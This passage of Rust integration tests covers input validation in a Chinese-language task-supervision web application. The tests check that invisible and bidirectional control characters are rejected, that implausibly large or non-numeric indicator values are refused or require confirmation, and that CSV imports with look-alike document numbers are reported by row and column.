        assert_eq!(v["error"], "字段「任务名称」含不可见或控制字符（U+202E），请删除后重试");
        let qiye = Client::login(&app, "qiye").await;
        let body = json!({"title": "焊接\u{2066}应力", "description": "大型焊接结构件的残余应力需要在现场消除。"});
        let (s, v) = qiye.post("/api/tech-problems", body).await;
        assert_eq!((s, v["field"].as_str()), (400, Some("难题名称")), "{v}");
        // Line breaks and tabs stay where text may span lines; a BOM at the start goes.
        let mut body = task(jsj, "\u{FEFF}背街小巷整治\u{200B}", "双向〔2026〕2号");
        body["description"] = json!("第一条\r\n第二条\t（续）\u{200B}");
        let (s, v) = sup.post("/api/tasks", body).await;
        assert_eq!(s, 201, "{v}");
        let (_, t) = sup.get(&format!("/api/tasks/{}", v["id"])).await;
        assert_eq!(t["task"]["title"], "背街小巷整治");
        assert_eq!(t["task"]["description"], "第一条\n第二条\t（续）");
        tdb.cleanup().await;
    });
}

/// An actual of 1e308 once showed 完成 922337203685477632.0% and passed 任务过半. Now figures are
/// bounded, and more than 1000 × the target needs the reporter's confirmation (API and page).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn implausible_indicator_actuals_are_refused_or_confirmed() {
    each_backend!(|b| {
        let Some((tdb, app)) = with_demo(b, dt("2026-11-23 10:00")).await else { continue };
        let sup = Client::login(&app, "duchaju").await;
        let jsj = sup.unit_id("jsj").await;
        let (s, v) = sup.post("/api/tasks", task(jsj, "指标上限测试", "指标〔2026〕1号")).await;
        assert_eq!(s, 201, "{v}");
        let task_id = v["id"].as_i64().unwrap();
        let ind = json!({"name": "新增就业", "unit_label": "人", "target": 100, "period_start": "2026-01-01", "period_end": "2026-12-31"});
        let (s, v) = sup.post(&format!("/api/tasks/{task_id}/indicators"), ind).await;
        assert_eq!(s, 201, "{v}");
        let id = v["id"].as_i64().unwrap();
        let path = format!("/api/indicators/{id}/reports");
        let reports = count(&tdb.db, "indicator_reports").await;
        let report = |actual: serde_json::Value| json!({"as_of": "2026-11-20", "actual": actual});
        let (s, v) = sup.post(&path, report(json!(1e308))).await;
        assert_eq!((s, v["field"].as_str()), (400, Some("完成值")), "{v}");
        assert!(v["error"].as_str().unwrap().contains("不能超过"), "{v}");
        let (s, v) = sup.post(&path, report(json!(100_001))).await;
        assert_eq!((s, v["field"].as_str()), (400, Some("完成值")), "{v}");
        assert!(v["error"].as_str().unwrap().contains("确认数值无误"), "{v}");
        // NaN and infinities cannot be written in JSON; numbers beyond f64 are refused as such.
        for raw in [r#"{"as_of": "2026-11-20", "actual": NaN}"#, r#"{"as_of": "2026-11-20", "actual": 1e309}"#] {
            let r = sup
                .http
                .post(app.url(&path))
                .bearer_auth(&sup.token)
                .header("content-type", "application/json")
                .body(raw)
                .send()
                .await
                .unwrap();
            assert_eq!(r.status(), 400, "{raw}");
        }
        assert_eq!(count(&tdb.db, "indicator_reports").await, reports, "nothing written");
        let (s, v) = sup.post(&path, json!({"as_of": "2026-11-20", "actual": 100_001, "confirm_large": true})).await;
        assert_eq!(s, 200, "{v}");
        assert_eq!(v["status"]["completion_percent"], 100001.0);

        // The page: NaN and inf typed are not numbers; a figure over 1000 × target comes back
        // with the typed value and the checkbox, and goes through once it is ticked.
        let c = reqwest::Client::builder().cookie_store(true).build().unwrap();
        common::form_login(&c, &app, "duchaju", xietong_demo::DEMO_PASSWORD).await;
        let html = c.get(app.url(&format!("/tasks/{task_id}"))).send().await.unwrap().text().await.unwrap();
        assert!(!html.contains("name=\"confirm_large\""), "no checkbox before a refusal");
        let at = html.find("name=\"_csrf\" value=\"").unwrap() + "name=\"_csrf\" value=\"".len();
        let token = html[at..].split('"').next().unwrap().to_string();
        let post = |actual: &'static str, confirm: bool| {
            let mut form =
                vec![("_csrf", token.clone()), ("task_id", task_id.to_string()), ("as_of", "2026-11-21".into())];
            form.push(("actual", actual.into()));
            if confirm {
                form.push(("confirm_large", "1".into()));
            }
            c.post(app.url(&format!("/indicators/{id}/reports"))).form(&form).send()
        };
        for bad in ["NaN", "inf"] {
            let r = post(bad, false).await.unwrap();
            assert_eq!(r.status(), 400, "{bad}");
            assert!(r.text().await.unwrap().contains(&format!("「{bad}」不是有效的数字")), "{bad}");
        }
        let r = post("250000", false).await.unwrap();
        assert_eq!(r.status(), 400);
        let html = r.text().await.unwrap();
        assert!(html.contains("确认数值无误") && html.contains("name=\"confirm_large\""), "the checkbox is shown");
        assert!(html.contains("value=\"250000\""), "the typed value is kept");
        let r = post("250000", true).await.unwrap();
        assert_eq!(r.status(), 200, "redirected to the task page");
        let (_, list) = sup.get(&format!("/api/tasks/{task_id}/indicators")).await;
        assert_eq!(list[0]["status"]["latest_actual"], 250000.0, "{list}");
        tdb.cleanup().await;
    });
}

/// Imports pass the same constructor: each refusal names the row and the column, look-alike 文号
/// are duplicates of a stored task and of each other, and nothing is written.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn imports_refuse_invisible_characters_and_look_alikes_by_row_and_column() {
    each_backend!(|b| {
        let Some((tdb, app)) = with_demo(b, dt("2026-11-23 10:00")).await else { continue };
        let sup = Client::login(&app, "duchaju").await;
        let jsj = sup.unit_id("jsj").await;
        let (s, v) = sup.post("/api/tasks", task(jsj, "唯一性测试", DOC)).await;
        assert_eq!(s, 201, "{v}");
        let (_, units) = sup.get("/api/units").await;
        let lead =
            units.as_array().unwrap().iter().find(|u| u["id"] == jsj).unwrap()["name"].as_str().unwrap().to_string();
        let row = |title: &str, doc: &str| format!("{title},会议,{doc},2026-11-20,{lead},每周,2026-12-18\n");
        let csv = format!(
            "任务名称,任务来源,文号,来源日期,牵头单位,汇报周期,办理期限\n{}{}{}{}",
            row("背街小巷\u{202E}整治", "导入〔2026〕1号"),
            row("背街小巷整治", &DOC.replace('7', "７")),
            row("背街小巷整治二", "导入〔2026〕２号"),
            row("背街小巷整治三", "导入[2026]2号"),
        );
        let tasks = count(&tdb.db, "tasks").await;
        let form = reqwest::multipart::Form::new()
            .part("file", reqwest::multipart::Part::bytes(csv.into_bytes()).file_name("任务.csv"));
        let r = sup.http.post(app.url("/api/imports/tasks")).bearer_auth(&sup.token).multipart(form).send().await;
        let r = r.unwrap();
        assert_eq!(r.status(), 400);
        let v: serde_json::Value = r.json().await.unwrap();
        let err = v["error"].as_str().unwrap();
        assert!(err.contains("第 2 行「任务名称」：含不可见或控制字符（U+202E）"), "{err}");
        assert!(err.contains("第 3 行「文号」：「RT唯一〔2026〕７号」已存在（即「RT唯一〔2026〕7号」"), "{err}");
        assert!(err.contains("第 5 行「文号」：与第 4 行重复"), "{err}");
        assert_eq!(count(&tdb.db, "tasks").await, tasks, "nothing imported");
        tdb.cleanup().await;
    });
}
